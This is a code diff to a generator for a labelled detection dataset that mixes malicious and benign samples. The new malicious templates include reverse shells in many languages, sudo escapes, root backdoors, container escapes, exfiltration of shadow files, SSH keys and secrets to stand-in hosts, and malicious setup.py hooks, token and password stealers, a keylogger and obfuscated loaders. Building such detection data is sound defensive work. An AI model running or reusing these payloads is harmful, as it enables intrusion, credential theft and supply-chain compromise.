@@ -353,6 +353,38 @@ def templated():
         "curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json",
         "nsenter -t 1 -m -u -i -n -p -- bash -c 'curl -s http://{ip}/{bin} | sh'",
     ]
+    mal += [
+        "perl -e 'use Socket;$i=\"{ip}\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");}};'",
+        "ruby -rsocket -e 'f=TCPSocket.open(\"{ip}\",{port}).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
+        "php -r '$s=fsockopen(\"{ip}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+        "awk 'BEGIN {{s = \"/inet/tcp/0/{ip}/{port}\"; while(1) {{ printf \"> \" |& s; s |& getline c; if(c){{ while ((c |& getline) > 0) print $0 |& s; close(c) }} }} }}'",
+        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {ip}:{port} > /tmp/s; rm /tmp/s",
+        "node -e 'sh=require(\"child_process\").spawn(\"/bin/sh\");require(\"net\").connect({port},\"{ip}\",function(){{this.pipe(sh.stdin);sh.stdout.pipe(this);sh.stderr.pipe(this)}})'",
+        "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('{ip}','{port}');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
+        "telnet {ip} {port} | /bin/sh | telnet {ip} {n}",
+        "sudo find / -name x -exec /bin/sh \\; -quit",
+        "sudo vim -c ':!/bin/sh'",
+        "sudo awk 'BEGIN {{system(\"/bin/sh\")}}'",
+        "sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
+        "sudo env /bin/sh",
+        "sudo python3 -c 'import os; os.system(\"/bin/sh\")'",
+        "sudo less /etc/profile\n!/bin/sh",
+        "cp /bin/bash /tmp/.b && chmod u+s /tmp/.b && /tmp/.b -p",
+        "echo '{w}::0:0:root:/root:/bin/bash' >> /etc/passwd",
+        "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {s}x && echo '{s}x:{w}' | chpasswd",
+        "echo '{s} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
+        "curl -s -X POST -d @/etc/shadow http://{ip}:{port}/",
+        "scp -o StrictHostKeyChecking=no /tmp/{bin} root@{ip}:/tmp/ && ssh -o StrictHostKeyChecking=no root@{ip} 'nohup /tmp/{bin} &'",
+        "for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1 | cut -d, -f1); do ssh -oBatchMode=yes $h 'curl -s http://{ip}/{bin}|sh' & done",
+        "docker run -v /:/mnt --rm -it alpine chroot /mnt sh",
+        "kubectl run x --image=alpine --restart=Never --overrides='{{\"spec\":{{\"hostPID\":true,\"containers\":[{{\"name\":\"x\",\"image\":\"alpine\",\"command\":[\"nsenter\",\"-t\",\"1\",\"-m\",\"-u\",\"-i\",\"-n\",\"sh\"],\"securityContext\":{{\"privileged\":true}}}}]}}}}'",
+        "d=$(dirname $(grep cgroup /proc/mounts | head -1 | cut -d' ' -f2)); mkdir $d/x; echo 1 > $d/x/notify_on_release; echo /cmd > $d/release_agent",
+        "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://{ip}/p.py').read())\"",
+        "wget -q http://{ip}/{bin} -O /var/tmp/.{bin}; chmod 755 /var/tmp/.{bin}; /var/tmp/.{bin} -B",
+        "export HISTFILE=/dev/null; curl -fsSL http://{ip}:{port}/x.sh | bash -s -- {w}",
+        "find / -name id_rsa 2>/dev/null | xargs -I{{}} curl -s -F 'f=@{{}}' http://{ip}/k",
+        "env | grep -iE 'key|secret|token|pass' | curl -s -X POST --data-binary @- http://{ip}:{port}/e",
+    ]
     bins = ["kdevtmpfsi", "dbused", ".x", "sysupdate", "kworkerds", "bot.x86_64", "networkservice", "ld-linux"]
     b64s = ["Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUvYSB8IHNo", "d2dldCAtcU8tIGh0dHA6Ly8xOTguNTEuMTAwLjkvYiB8IGJhc2g=", "YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDMgMD4mMQ=="]
     out = []
@@ -378,10 +410,217 @@ def templated():
     return unique
 
 
+def templated_python():
+    """Python package malware shapes (setup.py hooks, stealers, droppers, packers) and
+    the benign code they hide among (build scripts, API clients, normal setup.py)."""
+    import base64
+    import random
+
+    rnd = random.Random(4321)
+    names = ["reqeusts-toolbelt", "colorama-utils", "py-discordtools", "numpyy", "urllib-helper", "pyyaml-extra", "crypto-wallet-sdk", "fastapi-auth-kit"]
+    hosts = ["203.0.113.44", "198.51.100.71", "192.0.2.19", "cdn-update.invalid", "files.example.invalid"]
+    sinks = ["https://discord.com/api/webhooks/1111/AbCdEf", "https://webhook.site/0000-1111", "https://api.telegram.org/bot000:AAA/sendMessage", "https://abcd.oastify.com/c", "https://x1y2.ngrok.io/u"]
+
+    def b64(cmd):
+        return base64.b64encode(cmd.encode("utf-16-le" if "powershell" in cmd.lower() else "utf-8")).decode()
+
+    mal = [
+        lambda n, h, k: f"""from setuptools import setup
+from setuptools.command.install import install
+import subprocess
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {b64(f"Invoke-WebRequest -Uri http://{h}/u.exe -OutFile $env:TEMP/u.exe; Start-Process $env:TEMP/u.exe")}', shell=True, creationflags=0x08000000)
+
+setup(name="{n}", version="1.0.{rnd.randint(0, 9)}", packages=[], cmdclass={{"install": PostInstall}})
+""",
+        lambda n, h, k: f"""import os, tempfile, urllib.request
+from setuptools import setup
+p = os.path.join(os.getenv("APPDATA") or tempfile.gettempdir(), "svchost32.exe")
+urllib.request.urlretrieve("http://{h}/payload.exe", p)
+os.startfile(p)
+setup(name="{n}", version="0.0.{rnd.randint(1, 9)}")
+""",
+        lambda n, h, k: f"""import os
+from setuptools import setup
+os.system("curl -fsSL http://{h}/init.sh | sh >/dev/null 2>&1 &")
+setup(name="{n}", version="2.{rnd.randint(0, 9)}.0", install_requires=["requests"])
+""",
+        lambda n, h, k: f"""import os, re, json, urllib.request
+LOCAL = os.getenv("LOCALAPPDATA"); ROAMING = os.getenv("APPDATA")
+paths = {{"Discord": ROAMING + "\\\\discord\\\\Local Storage\\\\leveldb", "Chrome": LOCAL + "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Local Storage\\\\leveldb"}}
+tokens = []
+for name, path in paths.items():
+    if not os.path.exists(path):
+        continue
+    for f in os.listdir(path):
+        if f.endswith((".log", ".ldb")):
+            for line in open(os.path.join(path, f), errors="ignore"):
+                tokens += re.findall(r"[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{27}}", line)
+req = urllib.request.Request("{k}", data=json.dumps({{"content": "\\n".join(tokens)}}).encode(), headers={{"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}})
+urllib.request.urlopen(req)
+""",
+        lambda n, h, k: f"""import base64
+exec(base64.b64decode('{b64(f"import os;os.system('curl -s http://{h}/s | bash')")}'))
+""",
+        lambda n, h, k: f"""_ = lambda c: ''.join(chr(x) for x in c)
+exec(_([{', '.join(str(ord(c)) for c in f"__import__('os').system('wget -qO- http://{h}/x|sh')")}]))
+""",
+        lambda n, h, k: f"""import socket, subprocess, os
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("{h}", {rnd.choice([443, 4444, 8443, 53])}))
+os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
+subprocess.call(["/bin/sh", "-i"])
+""",
+        lambda n, h, k: f"""import os, socket, getpass, platform, requests
+info = {{"host": socket.gethostname(), "user": getpass.getuser(), "os": platform.platform(), "env": dict(os.environ)}}
+requests.post("{k}", json=info, timeout=5)
+""",
+        lambda n, h, k: f"""import os, json, base64, sqlite3, shutil, win32crypt
+db = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
+shutil.copy2(db, "ld.db")
+rows = sqlite3.connect("ld.db").execute("select origin_url, username_value, password_value from logins").fetchall()
+out = [(u, n, win32crypt.CryptUnprotectData(p, None, None, None, 0)[1].decode()) for u, n, p in rows]
+import requests; requests.post("{k}", data=json.dumps(out))
+""",
+        lambda n, h, k: f"""import marshal, zlib, base64
+exec(marshal.loads(zlib.decompress(base64.b64decode(b'{base64.b64encode(bytes(rnd.randrange(256) for _ in range(120))).decode()}'))))
+""",
+        lambda n, h, k: f"""from pynput import keyboard
+import requests
+buf = []
+def on_press(key):
+    buf.append(str(key))
+    if len(buf) > 50:
+        requests.post("{k}", data={{"text": "".join(buf)}}); buf.clear()
+with keyboard.Listener(on_press=on_press) as l:
+    l.join()
+""",
+        lambda n, h, k: f"""import os, urllib.request, stat
+p = "/tmp/.{rnd.choice(['kworker', 'dbus', 'cache'])}"
+urllib.request.urlretrieve("http://{h}/bin", p)
+os.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)
+with open("/etc/crontab", "a") as f:
+    f.write("*/10 * * * * root " + p + "\\n")
+os.system(p + " &")
+""",
+    ]
+    ben = [
+        lambda n: f"""from setuptools import setup, find_packages
+
+setup(
+    name="{n}-internal",
+    version="1.{rnd.randint(0, 20)}.0",
+    packages=find_packages(exclude=["tests"]),
+    install_requires=["requests>=2.31", "click>=8"],
+    entry_points={{"console_scripts": ["{n.split('-')[0]}=app.cli:main"]}},
+    python_requires=">=3.9",
+)
+""",
+        lambda n: f"""import os
+from setuptools import setup, Extension
+from setuptools.command.build_ext import build_ext
+
+class BuildExt(build_ext):
+    def build_extensions(self):
+        if self.compiler.compiler_type == "unix":
+            for ext in self.extensions:
+                ext.extra_compile_args = ["-O2", "-std=c11"]
+        super().build_extensions()
+
+setup(name="{n}-speedups", ext_modules=[Extension("_speedups", ["src/speedups.c"])], cmdclass={{"build_ext": BuildExt}})
+""",
+        lambda n: f"""import subprocess
+
+def git_version():
+    try:
+        out = subprocess.run(["git", "describe", "--tags", "--always"], capture_output=True, text=True, check=True)
+        return out.stdout.strip()
+    except (OSError, subprocess.CalledProcessError):
+        return "0+unknown"
+
+print(git_version())
+""",
+        lambda n: f"""import os
+import requests
+
+API = os.environ.get("API_URL", "https://api.example.invalid")
+
+def get_user(session: requests.Session, user_id: int) -> dict:
+    r = session.get(f"{{API}}/users/{{user_id}}", timeout=10, headers={{"Authorization": "Bearer " + os.environ["API_TOKEN"]}})
+    r.raise_for_status()
+    return r.json()
+""",
+        lambda n: f"""import base64
+import json
+
+def encode_config(cfg: dict) -> str:
+    return base64.b64encode(json.dumps(cfg).encode()).decode()
+
+def decode_config(blob: str) -> dict:
+    return json.loads(base64.b64decode(blob))
+""",
+        lambda n: f"""import socket
+import sys
+
+def port_open(host: str, port: int, timeout: float = 2.0) -> bool:
+    try:
+        with socket.create_connection((host, port), timeout=timeout):
+            return True
+    except OSError:
+        return False
+
+sys.exit(0 if port_open("127.0.0.1", {rnd.choice([5432, 6379, 8080])}) else 1)
+""",
+        lambda n: f"""import logging
+import os
+import shutil
+import tarfile
+from pathlib import Path
+
+log = logging.getLogger(__name__)
+
+def backup(src: Path, dest: Path) -> Path:
+    dest.mkdir(parents=True, exist_ok=True)
+    archive = dest / f"{{src.name}}.tar.gz"
+    with tarfile.open(archive, "w:gz") as tar:
+        tar.add(src, arcname=src.name)
+    log.info("backed up %s to %s (%d bytes)", src, archive, archive.stat().st_size)
+    return archive
+""",
+        lambda n: f"""import subprocess
+import sys
+
+def run(cmd):
+    print("+", " ".join(cmd), flush=True)
+    subprocess.run(cmd, check=True)
+
+if __name__ == "__main__":
+    run([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])
+    run([sys.executable, "-m", "pytest", "-q"])
+""",
+    ]
+    out = []
+    for t in mal:
+        for _ in range(3):
+            out.append(("python", "file", M, "T1059.006", t(rnd.choice(names), rnd.choice(hosts), rnd.choice(sinks))))
+    for t in ben:
+        for _ in range(3):
+            out.append(("python", "file", B, None, t(rnd.choice(names))))
+    seen, unique = set(), []
+    for smp in out:
+        if smp[4] not in seen:
+            seen.add(smp[4])
+            unique.append(smp)
+    return unique
+
+
 def main():
     out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "synthetic.jsonl")
     with open(out, "w") as f:
-        samples = SAMPLES + templated()
+        samples = SAMPLES + templated() + templated_python()
         for lang, kind, label, technique, content in samples:
             content = content.strip() if kind == "inline" else content
             h = hashlib.sha256(content.encode()).hexdigest()[:16]
